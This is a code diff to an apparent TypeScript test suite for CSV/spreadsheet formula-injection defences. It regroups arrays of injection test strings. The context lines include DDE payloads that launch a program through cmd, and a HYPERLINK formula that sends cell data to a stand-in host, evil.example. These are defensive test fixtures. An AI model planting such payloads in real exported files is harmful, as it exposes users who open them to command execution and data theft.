@@ -113,18 +113,18 @@ const formulas = ['=1+1', '+1+1', '-1+1', '+919876543210', '+91 98765=1+1', ';=c
 const commands = ["@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"];
 const calls = ["%0A-3+3+cmd|' /C calc'!D2\n-1", '=HYPERLINK("http://evil.example?x="&A1,"here")'];
 const afterSpace = ['\t=1+1', '\r=1+1', '\u0000=1+1', '\n=1+1', ' =1+1'];
-const secondCell = ['a,=1+1', 'a;=1+1', 'a|=1+1', 'a\t=1+1', 'a","=1+1', '"=1+1'];
-const secondLine = ['a\n=1+1', 'a\r\n=1+1'];
-const fullWidth = ['＝1+1', '＋1', '－1', '＠SUM(1)'];
-const attacks = [
-  ...formulas,
-  ...commands,
-  ...calls,
-  ...afterSpace,
-  ...secondCell,
-  ...secondLine,
-  ...fullWidth,
+const inCell = [
+  'a,=1+1',
+  'a;=1+1',
+  'a|=1+1',
+  'a\t=1+1',
+  'a\n=1+1',
+  'a\r\n=1+1',
+  'a","=1+1',
+  '"=1+1',
 ];
+const wide = ['＝1+1', '＋1', '－1', '＠SUM(1)'];
+const attacks = [...formulas, ...commands, ...calls, ...afterSpace, ...inCell, ...wide];
 
 /** Returns every cell that a spreadsheet could read, whichever separator or quotes it expects. */
 function possibleCells(line: string): string[] {
